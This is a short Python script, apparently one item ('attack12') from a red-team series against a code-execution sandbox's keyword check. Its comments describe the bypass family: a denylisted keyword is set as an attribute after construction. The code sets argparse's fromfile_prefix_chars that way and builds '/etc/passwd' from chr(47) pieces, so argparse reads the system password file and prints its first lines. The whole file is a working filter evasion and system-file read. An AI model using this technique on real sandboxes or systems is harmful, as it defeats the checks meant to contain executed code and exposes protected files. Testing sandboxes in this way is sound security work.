# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 8 refused keyword given by position or as an attribute
# source: https://docs.python.org/3/library/argparse.html#fromfile-prefix-chars; README: forbidden names do not affect attributes of the same name
# family: denylisted keyword set as an attribute after construction
# goal: argparse reads /etc/passwd as argument lines
import argparse
import json

p = argparse.ArgumentParser()
p.fromfile_prefix_chars = "@"
known, rest = p.parse_known_args(["@" + chr(47) + "etc" + chr(47) + "passwd"])
print(json.dumps({"evidence": rest[:3]}))
